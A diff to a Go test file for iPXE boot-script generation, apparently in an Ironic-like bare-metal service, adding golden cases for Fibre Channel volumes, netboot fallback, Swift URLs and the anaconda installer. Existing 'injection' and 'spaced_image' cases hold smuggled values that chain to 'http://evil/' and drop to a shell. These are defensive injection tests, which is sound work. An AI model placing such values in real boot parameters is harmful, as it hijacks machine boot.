@@ -34,17 +34,39 @@ func bfvNode() ScriptNode {
 	}
 }
 
+// fcNode is an active node whose boot volume is Fibre Channel, as a
+// deployment with the ipxe boot interface leaves it: no boot_from_volume.
+func fcNode() ScriptNode {
+	n := bfvNode()
+	n.DriverInternalInfo = map[string]any{"is_whole_disk_image": true}
+	n.VolumeTargets = []VolumeTarget{{UUID: "t-fc", VolumeType: "fibre_channel", BootIndex: ptr(0), Properties: map[string]any{
+		"target_wwn": []any{"500a09808e2b2a1f"}, "target_lun": 0}}}
+	n.VolumeConnectors = []VolumeConnector{{Type: "wwpn", ConnectorID: "21000024ff37a4b2"}, {Type: "wwnn", ConnectorID: "20000024ff37a4b2"}}
+	return n
+}
+
 func TestIPXEScriptGoldens(t *testing.T) {
 	cfg := ScriptConfig{HTTPURL: "http://10.0.2.2:5781/", KernelAppendParams: "nofb nomodeset vga=normal", APIURL: "http://10.0.2.2:5780"}
 	deployDI := map[string]any{"deploy_kernel": "glance-kernel-uuid", "deploy_ramdisk": "glance-ramdisk-uuid",
 		"rescue_kernel": "http://images.example/rescue.kernel", "rescue_ramdisk": "http://images.example/rescue.initramfs"}
+	fallback := func(c *ScriptConfig) { c.NetbootFallback = true }
+	localNode := ScriptNode{UUID: nodeUUID, ProvisionState: "active", DriverInternalInfo: map[string]any{"is_whole_disk_image": true}}
 	cases := map[string]struct {
 		cfg  func(*ScriptConfig)
 		node ScriptNode
 	}{
 		"active_bfv_iscsi": {node: bfvNode()},
-		"active_bfv_fc":    {node: func() ScriptNode { n := bfvNode(); n.VolumeTargets[1].VolumeType = "fibre_channel"; return n }()},
-		"active_local":     {node: ScriptNode{UUID: nodeUUID, ProvisionState: "active", DriverInternalInfo: map[string]any{"is_whole_disk_image": true}}},
+		// A Fibre Channel boot volume: the ipxe boot interface has no
+		// fibre_channel_volume_boot capability, so Ironic records no
+		// boot_from_volume and boots the node as a local-boot one.
+		"active_bfv_fc":          {node: fcNode()},
+		"active_bfv_fc_fallback": {cfg: fallback, node: fcNode()},
+		// iSCSI targets without boot_from_volume (added after the
+		// deployment, or a boot interface without iscsi_volume_boot):
+		// is_iscsi_boot is false, the node boots locally.
+		"active_bfv_unrecorded": {cfg: fallback, node: func() ScriptNode { n := bfvNode(); n.DriverInternalInfo = map[string]any{}; return n }()},
+		"active_local":          {node: localNode},
+		"active_local_fallback": {cfg: fallback, node: localNode},
 		"active_netboot": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "active",
 			InstanceInfo:       map[string]any{"image_source": "http://images.example/part.img", "kernel": "http://images.example/vmlinuz", "ramdisk": "initrd-glance-id", "capabilities": map[string]any{"boot_option": "netboot"}},
 			DriverInternalInfo: map[string]any{"root_uuid_or_disk_id": "4b4f5ad2-7e5e-4c2a-a3c5-6a1d8bb0e5c5"}}},
@@ -65,7 +87,28 @@ func TestIPXEScriptGoldens(t *testing.T) {
 				InstanceInfo: map[string]any{"kernel_append_params": "%default% console=ttyS0,115200n8"}}},
 		"injection": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying",
 			DriverInfo: map[string]any{"deploy_kernel": "http://x/k\nshell", "deploy_ramdisk": "http://x/r", "kernel_append_params": "a\r\nchain http://evil/ && shell ; shell"}}},
-		"unknown_node": {},
+		// [pxe]ipxe_use_swift with Glance deploy images: no Glance client
+		// to make the temporary URLs, so the error script says so; URLs
+		// are used as they are.
+		"deploying_swift_glance": {cfg: func(c *ScriptConfig) { c.IPXEUseSwift = true },
+			node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying", DriverInfo: map[string]any{
+				"deploy_kernel": "http://images.example/ipa.kernel", "deploy_ramdisk": "glance://0b3c2a3e-9a51-4c6f-9d7f-5b1a4e0e6f11"}}},
+		"rescuing_swift_urls": {cfg: func(c *ScriptConfig) { c.IPXEUseSwift = true },
+			node: ScriptNode{UUID: nodeUUID, ProvisionState: "rescuing", DriverInfo: deployDI}},
+		// The anaconda deploy interface while the installer runs.
+		"anaconda_wait_call-back": {cfg: func(c *ScriptConfig) { c.IPXETimeout = 30 }, node: ScriptNode{UUID: nodeUUID, ProvisionState: "wait call-back", DeployInterface: "anaconda", DriverInfo: deployDI,
+			InstanceInfo: map[string]any{"image_source": "0b3c2a3e-9a51-4c6f-9d7f-5b1a4e0e6f11", "kernel": "kernel-glance-id", "ramdisk": "http://images.example/initrd.img"}}},
+		"anaconda_deploying_repo": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying", DeployInterface: "anaconda", DriverInfo: deployDI,
+			InstanceInfo:       map[string]any{"image_source": "http://mirror.example/9-stream/BaseOS/x86_64/os/", "kernel": "http://mirror.example/9-stream/BaseOS/x86_64/os/images/pxeboot/vmlinuz", "ramdisk": "http://mirror.example/9-stream/BaseOS/x86_64/os/images/pxeboot/initrd.img"},
+			DriverInternalInfo: map[string]any{"is_source_a_path": true}}},
+		"anaconda_nokernel": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "wait call-back", DeployInterface: "anaconda", DriverInfo: deployDI}},
+		// Installed: local boot (Ironic removed the config), not netboot
+		// of the installer.
+		"anaconda_active": {cfg: fallback, node: ScriptNode{UUID: nodeUUID, ProvisionState: "active", DeployInterface: "anaconda",
+			InstanceInfo: map[string]any{"image_source": "0b3c2a3e-9a51-4c6f-9d7f-5b1a4e0e6f11", "kernel": "kernel-glance-id", "ramdisk": "http://images.example/initrd.img"}}},
+		// Cleaning an anaconda node runs IPA as any other.
+		"anaconda_cleaning": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "cleaning", DeployInterface: "anaconda", DriverInfo: deployDI}},
+		"unknown_node":      {},
 		"spaced_image": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying",
 			DriverInfo: map[string]any{"deploy_kernel": "http://x/k || shell", "deploy_ramdisk": "http://x/r"}}},
 	}
